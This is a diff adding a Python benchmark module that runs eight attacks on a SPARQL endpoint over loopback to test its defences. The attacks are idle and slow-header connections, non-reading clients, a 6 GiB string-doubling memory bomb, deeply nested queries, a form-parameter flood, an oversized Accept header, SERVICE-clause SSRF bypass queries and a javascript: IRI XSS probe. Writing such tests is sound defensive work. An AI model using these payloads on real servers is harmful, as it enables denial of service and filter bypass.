@@ -1,0 +1,291 @@
+"""The attacks of issue 13, items 1-8, as bounded loops over loopback (bench/attack.py).
+
+Every attack runs until ``stop`` is set and sends from :data:`ATTACKER` (127.0.0.2): as far
+as the server can tell, another host than the well-behaved client on 127.0.0.1. Each one
+returns a small dict of what it saw. Nothing here leaves the machine.
+"""
+
+from __future__ import annotations
+
+import http.client
+import socket
+import threading
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from urllib.parse import quote, urlencode
+
+ATTACKER = "127.0.0.2"
+
+
+@dataclass
+class Target:
+    """The server under attack: its port and the path of its SPARQL query endpoint."""
+
+    port: int
+    query_path: str = "/sparql"  # Oxigraph: /query
+    page_path: str | None = "/query"  # the query page (item 8); None when it has none
+    host: str = "127.0.0.1"
+
+    def connect(self, timeout: float = 10.0) -> socket.socket:
+        sock = socket.create_connection(
+            (self.host, self.port), timeout=timeout, source_address=(ATTACKER, 0)
+        )
+        return sock
+
+    def http(self, timeout: float = 60.0) -> http.client.HTTPConnection:
+        return http.client.HTTPConnection(
+            self.host, self.port, timeout=timeout, source_address=(ATTACKER, 0)
+        )
+
+
+@dataclass
+class Tally:
+    """Counts by outcome (HTTP status, or the exception's name), shared by an attack's threads."""
+
+    counts: dict[str, int] = field(default_factory=dict)
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+    def add(self, outcome: object) -> None:
+        with self.lock:
+            key = str(outcome)
+            self.counts[key] = self.counts.get(key, 0) + 1
+
+
+# --- the queries ------------------------------------------------------------------------
+
+#: Item 2: a string doubled 27 times (48 B × 2^27 = 6 GiB) by a 1.2 KB query.
+MEMORY_BOMB = (
+    'SELECT (STRLEN(?s27) AS ?n) { BIND("'
+    + "a" * 48
+    + '" AS ?s0) '
+    + " ".join(f"BIND(CONCAT(?s{i}, ?s{i}) AS ?s{i + 1})" for i in range(27))
+    + " }"
+)
+#: Item 3: 5,000 nested parentheses (10 KB).
+DEEP_NESTING = "SELECT * { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }"
+
+
+#: Items 1 and 5: a 12 KB query whose answer is 100,000 rows of 10 KB (1 GB) unless capped.
+def big_answer(rows_a: int, rows_b: int, rows_c: int, width: int) -> str:
+    """A query whose answer is rows_a × rows_b × rows_c rows of ``width`` bytes each."""
+    values = " ".join(
+        f"VALUES ?{v} {{ {' '.join(str(i) for i in range(n))} }}"
+        for v, n in (("a", rows_a), ("b", rows_b), ("c", rows_c))
+    )
+    return f'SELECT ?a ?b ?c ?x {{ {values} BIND("{"x" * width}" AS ?x) }}'
+
+
+HUGE_ANSWER = big_answer(100, 100, 10, 10_000)
+#: Item 1: big enough (20 MB) to fill every buffer between server and client many times.
+LARGE_ANSWER = big_answer(100, 100, 1, 2_000)
+
+
+def service_bypasses(listener: str) -> list[str]:
+    """Item 4: SERVICE calls to ``listener`` dressed to fool a checker that parses differently."""
+    return [
+        f"SELECT * {{ ?a ?b ?c FILTER(?a <'>') SERVICE <{listener}/x> {{ ?s ?p ?o }} }} #'",
+        f'SELECT * {{ ?a ?b ?c FILTER(?a <"\'">) }} LATERAL {{ SERVICE <{listener}/y> {{}} }}',
+        f'VERSION "1.2" SELECT * {{ SERVICE <{listener}/z> {{ ?s ?p ?o }} }}',
+        "SELECT * { " + "{" * 300 + f" SERVICE <{listener}/deep> {{}} " + "}" * 300 + " }",
+    ]
+
+
+# --- the attacks ------------------------------------------------------------------------
+
+
+def idle_sockets(target: Target, count: int, stop: threading.Event) -> dict[str, object]:
+    """Item 1: ``count`` connections that send nothing; how many the server closed, and when."""
+    socks, opened, refused = [], time.monotonic(), 0
+    for _ in range(count):
+        try:
+            socks.append(target.connect())
+        except OSError:
+            refused += 1
+    closed_after: list[float] = []
+    for sock in socks:
+        sock.setblocking(False)
+    while not stop.is_set() and len(closed_after) < len(socks):
+        for sock in socks:
+            if sock.fileno() < 0:
+                continue
+            try:
+                if sock.recv(1) == b"":
+                    closed_after.append(time.monotonic() - opened)
+                    sock.close()
+            except BlockingIOError:
+                pass
+            except OSError:
+                closed_after.append(time.monotonic() - opened)
+                sock.close()
+        stop.wait(0.5)
+    for sock in socks:
+        sock.close()
+    first = min(closed_after) if closed_after else None
+    return {"opened": len(socks), "refused": refused, "closed_by_server": len(closed_after),
+            "first_closed_after_s": round(first, 1) if first else None}  # fmt: skip
+
+
+def slow_senders(
+    target: Target, count: int, stop: threading.Event, interval: float = 2.0
+) -> dict[str, object]:
+    """Item 1: ``count`` connections that send a request's headers one line per ``interval``."""
+    socks = []
+    for _ in range(count):
+        try:
+            sock = target.connect()
+            sock.sendall(f"GET {target.query_path}?query=ASK%7B%7D HTTP/1.1\r\n".encode())
+            socks.append(sock)
+        except OSError:
+            pass
+    sent, dropped = 0, 0
+    while not stop.wait(interval) and socks:
+        for sock in list(socks):
+            try:
+                sock.sendall(f"X-Slow-{sent}: {sent}\r\n".encode())
+                sent += 1
+            except OSError:
+                dropped += 1
+                socks.remove(sock)
+                sock.close()
+    for sock in socks:
+        sock.close()
+    return {"opened": count, "dropped_by_server": dropped, "header_lines_sent": sent}
+
+
+def non_readers(
+    target: Target, count: int, stop: threading.Event, query: str = HUGE_ANSWER
+) -> dict[str, object]:
+    """Items 1 and 5: ``count`` clients that ask for a huge answer and never read it."""
+    body = urlencode({"query": query}).encode()
+    socks, answered = [], 0
+    for _ in range(count):
+        if stop.is_set():
+            break
+        try:
+            sock = target.connect(timeout=120)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            sock.sendall(
+                f"POST {target.query_path} HTTP/1.1\r\nHost: x\r\nAccept: text/csv\r\n"
+                f"Content-Type: application/x-www-form-urlencoded\r\n"
+                f"Content-Length: {len(body)}\r\n\r\n".encode()
+                + body
+            )
+            socks.append(sock)
+        except OSError:
+            pass
+    for sock in socks:  # the status line only, to know the server answered; then nothing
+        try:
+            sock.settimeout(max(1.0, 0.1))
+            if sock.recv(12):
+                answered += 1
+        except OSError:
+            pass
+    stop.wait()
+    for sock in socks:
+        sock.close()
+    return {"opened": len(socks), "answer_started": answered}
+
+
+def repeat(
+    stop: threading.Event, send: Callable[[], object], pause: float = 0.0
+) -> dict[str, object]:
+    """``send()`` again and again until ``stop``; a tally of its outcomes."""
+    tally = Tally()
+    while not stop.is_set():
+        try:
+            tally.add(send())
+        except (OSError, http.client.HTTPException) as exc:
+            tally.add(type(exc).__name__)
+        if pause:
+            stop.wait(pause)
+    return tally.counts
+
+
+def post_query(target: Target, query: str, accept: str = "text/csv", read: bool = True) -> int:
+    """One form POST of ``query``; the status (the body is read and dropped)."""
+    conn = target.http()
+    try:
+        body = urlencode({"query": query})
+        conn.request(
+            "POST",
+            target.query_path,
+            body,
+            {"Content-Type": "application/x-www-form-urlencoded", "Accept": accept},
+        )
+        response = conn.getresponse()
+        if read:
+            while response.read(1 << 16):
+                pass
+        return response.status
+    finally:
+        conn.close()
+
+
+def form_flood(target: Target, parameters: int = 5_000_000) -> int:
+    """Item 6: one form of ``parameters`` empty parameters (15 MB) and no query."""
+    body = b"a=&" * parameters
+    conn = target.http(timeout=120)
+    try:
+        conn.request("POST", target.query_path, body,
+                     {"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
+        response = conn.getresponse()
+        response.read()
+        return response.status
+    finally:
+        conn.close()
+
+
+def huge_accept(target: Target, size: int = 185_000) -> int:
+    """Item 7: an ``ASK {}`` whose ``Accept`` is ``size`` bytes of media ranges."""
+    ranges = []
+    while sum(len(r) + 2 for r in ranges) < size:
+        ranges.append(f"application/x-{len(ranges)};q=0.{len(ranges) % 10}")
+    conn = target.http()
+    try:
+        conn.request("GET", f"{target.query_path}?query={quote('ASK {}')}", None,
+                     {"Accept": ", ".join(ranges)})  # fmt: skip
+        response = conn.getresponse()
+        response.read()
+        return response.status
+    finally:
+        conn.close()
+
+
+def xss_page(target: Target) -> int:
+    """Item 8: the query page with a query that makes a ``javascript:`` IRI."""
+    if target.page_path is None:
+        return 0
+    query = 'SELECT ?x { BIND(IRI("javascript:alert(document.domain)") AS ?x) }'
+    conn = target.http()
+    try:
+        conn.request("GET", f"{target.page_path}?query={quote(query)}")
+        response = conn.getresponse()
+        response.read()
+        return response.status
+    finally:
+        conn.close()
+
+
+class Listener:
+    """A loopback TCP listener that counts every connection made to it (item 4)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(64)
+        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
+        self.hits = 0
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.hits += 1
+            conn.close()
+
+    def close(self) -> None:
+        self.sock.close()
